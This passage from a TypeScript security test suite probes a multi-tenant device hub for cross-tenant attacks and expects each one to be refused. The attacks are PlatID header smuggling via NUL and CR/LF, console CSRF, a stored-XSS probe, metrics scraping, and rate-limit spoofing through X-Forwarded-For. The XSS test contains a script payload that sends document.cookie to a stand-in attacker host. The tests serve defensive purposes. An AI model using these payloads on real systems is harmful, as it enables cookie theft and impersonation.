  it("smuggles a second PlatID with NUL, bare CR/LF or a folded line: 400 from the HTTP parser", async (ctx) => {
    const { hub, t, v } = world(ctx);
    for (const trick of [
      `PlatID: ${t.creds.platId}\u0000${v.creds.platId}`,
      `PlatID: ${t.creds.platId}\nPlatID: ${v.creds.platId}`,
      `PlatID: ${t.creds.platId}\rPlatID: ${v.creds.platId}`,
      `PlatID: ${t.creds.platId}\r\n ${v.creds.platId}`,
      `PlatID : ${v.creds.platId}`,
    ]) {
      const { host } = new URL(hub.url);
      const answer = await rawRequest(
        hub.url,
        `POST /v1/users/devices HTTP/1.1\r\nHost: ${host}\r\n${trick}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
      );
      expect(answer.status, JSON.stringify(trick)).toBe(400);
      expect(JSON.parse(answer.body).RetCode).toBe("400");
    }
  });

  it("sends V's PlatID with non-ASCII decorations the hub trims (NBSP, typographic quotes, tabs) and T's signature: 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const body = JSON.stringify({ UserID: v.userId });
    for (const spelled of [
      `${v.creds.platId}\u00a0`,
      `\u201c${v.creds.platId}\u201d`,
      `\t${v.creds.platId}\t`,
    ]) {
      const res = await raw(
        hub.url,
        "POST",
        "/v1/users/devices",
        [
          ["PlatID", spelled],
          ...sigLines(requestSignature(t.creds.appSecret, "POST", "/v1/users/devices", body)),
        ],
        body,
      );
      expect(res.status, JSON.stringify(spelled)).toBe(401);
      expect(res.body.RetCode).toBe("401");
    }
  });

  // --- console and metrics -------------------------------------------------------------------

  it("makes the operator's browser rotate V's secret from another site (console CSRF): 403, and the admin API takes no cookie", async (ctx) => {
    const { hub, v } = world(ctx);
    // What the operator's browser holds; T's page makes it post.
    const cookie = await consoleCookie(hub.url, hub.adminToken);
    const target = `${hub.url}/console/platforms/${v.creds.platId}/secret`;
    const attempts: Headers[] = [
      { origin: "https://tenant-t.example", "content-type": "application/x-www-form-urlencoded" },
      { origin: "https://tenant-t.example", "content-type": "text/plain" },
      { origin: "null", "content-type": "multipart/form-data; boundary=x" },
      // A browser that sends no Origin: no CSRF token either.
      { "content-type": "application/x-www-form-urlencoded" },
      { origin: hub.url, "content-type": "application/x-www-form-urlencoded" },
    ];
    for (const headers of attempts) {
      const res = await fetch(target, {
        method: "POST",
        redirect: "manual",
        headers: { cookie, ...headers },
        body: headers["content-type"]?.startsWith("multipart") ? "--x--\r\n" : form({ graceSeconds: "0" }),
      });
      expect(res.status, JSON.stringify(headers)).toBe(403);
      expect(await res.text()).not.toContain("whsec_");
    }
    // The admin API authenticates by bearer token only: the console's cookie is worth nothing there.
    const api = await fetch(`${hub.url}/admin/v1/platforms/${v.creds.platId}/secret`, {
      method: "POST",
      headers: { cookie, origin: "https://tenant-t.example", "content-type": "text/plain" },
      body: "{}",
    });
    expect(api.status).toBe(401);
    expect(((await api.json()) as { RetCode: string }).RetCode).toBe("401");
  });

  it("plants markup in the operator's console through a claimed PlatID (audit log page): shown escaped, no script allowed", async (ctx) => {
    const { hub } = world(ctx);
    const payload = `<script>fetch("https://tenant-t.example/?"+document.cookie)</script>`;
    const probe = await send(
      `${hub.url}/v1/users/devices`,
      "POST",
      { "content-type": "application/json", PlatID: payload },
      "{}",
    );
    expect(probe.status).toBe(401);
    expect(probe.body.RetCode).toBe("401");
    const page = await fetch(`${hub.url}/console/audit?action=auth.standard`, {
      headers: { cookie: await consoleCookie(hub.url, hub.adminToken) },
    });
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain("&lt;script&gt;fetch(");
    expect(html).not.toContain("<script");
    const csp = page.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toContain("script-src");
  });

  it("scrapes /metrics without the token, with T's secrets as bearer, or with T's signature: 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const scrapes: Headers[] = [
      {},
      { authorization: `Bearer ${t.creds.appSecret}` },
      { authorization: `Bearer ${t.creds.webhookSecret}` },
      { PlatID: t.creds.platId, ...requestSignature(t.creds.appSecret, "GET", "/metrics", "") },
    ];
    for (const headers of scrapes) {
      const res = await send(`${hub.url}/metrics`, "GET", headers);
      expect(res.status).toBe(401);
      expect(res.body.RetCode).toBe("401");
      expect(JSON.stringify(res.body)).not.toContain(v.creds.platId);
    }
  });

  // --- the verdict ---------------------------------------------------------------------------

  it("after every attack: V's platform rows (secrets, URLs), users, tokens, bindings, shadows, deliveries and models are unchanged", async (ctx) => {
    const { hub, v } = world(ctx);
    const after = await snapshotOf(hub.hub.database.db, v);
    expect(after).toEqual(before);
    // And V still works with its own credentials.
    const list = await v.call("users/devices", { UserID: v.userId });
    expect(list.body.RetCode).toBe("200");
    const listed = (list.body.Device as { DeviceInfo: { deviceID: string } }[]).map(
      (d) => d.DeviceInfo.deviceID,
    );
    expect(listed.sort()).toEqual([v.washer, v.foreignDevice].sort());
  });
});

describe("the operator's answer to V's leaked secret", () => {
  it("graceSeconds 0 ends the leaked previous appSecret on /v1 at once", async (ctx) => {
    const { hub, admin, v } = world(ctx);
    const thief = platformClient(hub.url, { platId: v.creds.platId, appSecret: v.leakedAppSecret });
    expect((await thief("users/devices", { UserID: "U-NOBODY" })).body.RetCode).toBe("404");
    const rotated = await admin.post(`/admin/v1/platforms/${v.creds.platId}/secret`, { graceSeconds: 0 });
    expect(rotated.status).toBe(200);
    const res = await thief("users/devices", { UserID: "U-NOBODY" });
    expect(res.status).toBe(401);
    expect(res.body.RetCode).toBe("401");
    const fresh = platformClient(hub.url, {
      platId: v.creds.platId,
      appSecret: String(rotated.body.appSecret),
    });
    expect((await fresh("users/devices", { UserID: v.userId })).body.RetCode).toBe("200");
  });
});

describe("T spends V's rate limit and V's budget of failed authentications", () => {
  let hub: TestHub | undefined;
  const run = runSuffix();
  const creds: Record<"v" | "t", { platId: string; appId: string; appSecret: string }> = {
    v: { platId: `RL-V-${run}`, appId: "", appSecret: "" },
    t: { platId: `RL-T-${run}`, appId: "", appSecret: "" },
  };
  // Behind a proxy (loopback, trusted): T and V are clients with addresses of their own, IPv6
  // blocks drawn per run (the buckets live in Redis, shared by every test run).
  const block = () => `2001:db8:${randomBytes(2).toString("hex")}:${randomBytes(2).toString("hex")}`;
  const tAddress = `${block()}::7`;
  const vAddress = `${block()}::9`;
  const fromT = { "x-forwarded-for": tAddress };
  const fromV = { "x-forwarded-for": vAddress };

  beforeAll(async () => {
    if (!(await servicesOrSkip())) return;
    // Buckets that refill once an hour: nothing refills while the test runs.
    hub = await startTestHub("postgres", {
      REDIS_URL: TEST_REDIS_URL,
      HUB_RATE_LIMIT: "1/h,burst=6",
      HUB_UNAUTH_RATE_LIMIT: "1/h,burst=40",
      HUB_TRUSTED_PROXIES: "127.0.0.1",
    });
    const admin = adminClient(hub.url, hub.adminToken);
    for (const c of Object.values(creds)) {
      const reg = await admin.post("/admin/v1/platforms", {
        platId: c.platId,
        name: c.platId,
        verifyUrl: "http://127.0.0.1:9/verify",
      });
      expect(reg.status).toBe(201);
      c.appId = String(reg.body.appId);
      c.appSecret = String(reg.body.appSecret);
    }
  }, 60_000);
  afterAll(async () => hub?.close());

  const probe = { UserID: "U-NOBODY" };

  it("floods in V's name (forged, and signed with T's secret) and with its own: V's rate-limit bucket stays full", async (ctx) => {
    if (!hub) return ctx.skip();
    const forged = platformClient(hub.url, { platId: creds.v.platId });
    const tAsV = platformClient(hub.url, { platId: creds.v.platId, appSecret: creds.t.appSecret });
    const tSelfAsV = selfClient(hub.url, { platId: creds.v.platId, appSecret: creds.t.appSecret });
    for (let i = 0; i < 10; i++) {
      expect((await forged("users/devices", probe, fromT)).body.RetCode).toBe("401");
      expect((await tAsV("users/devices", probe, fromT)).body.RetCode).toBe("401");
      expect((await tSelfAsV("GET", "", undefined, fromT)).body.RetCode).toBe("401");
    }
    // T's own traffic empties T's bucket, and only T's.
    const asT = platformClient(hub.url, creds.t);
    const tAnswers = [];
    for (let i = 0; i < 7; i++) tAnswers.push((await asT("users/devices", probe, fromT)).body.RetCode);
    expect(tAnswers).toEqual(["404", "404", "404", "404", "404", "404", "429"]);
    // V has its whole bucket: five calls now (404: no such user, so authenticated), the sixth below.
    const asV = platformClient(hub.url, creds.v);
    const vAnswers = [];
    for (let i = 0; i < 5; i++) vAnswers.push((await asV("users/devices", probe, fromV)).body.RetCode);
    expect(vAnswers).toEqual(["404", "404", "404", "404", "404"]);
  });

  it("forges X-Forwarded-For naming V's address to spend V's budget of failed authentications: only T's address is closed", async (ctx) => {
    if (!hub) return ctx.skip();
    // T puts V's address first; the trusted proxy appended T's own, which is what counts.
    const spoofed = { "x-forwarded-for": `${vAddress}, ${tAddress}` };
    const forged = platformClient(hub.url, { platId: creds.v.platId });
    const answers: string[] = [];
    for (let i = 0; i < 60 && answers.at(-1) !== "429"; i++)
      answers.push(String((await forged("users/devices", probe, spoofed)).body.RetCode));
    expect(answers.at(-1)).toBe("429");
    expect(new Set(answers.slice(0, -1))).toEqual(new Set(["401"]));
    // T's address is closed, even to a valid request (V's credentials, from T's address) …
    const closed = await platformClient(hub.url, creds.v)("users/devices", probe, fromT);
    expect(closed.status).toBe(429);
    expect(closed.body.RetCode).toBe("429");
    expect(String(closed.body.RetInfo)).toMatch(/failed authentications from this address/);
    // … V's is open: V authenticates (404: no such user), with the last token of its bucket.
    const v = await platformClient(hub.url, creds.v)("users/devices", probe, fromV);
    expect(v.status).toBe(404);
    expect(v.body.RetCode).toBe("404");
  });
});
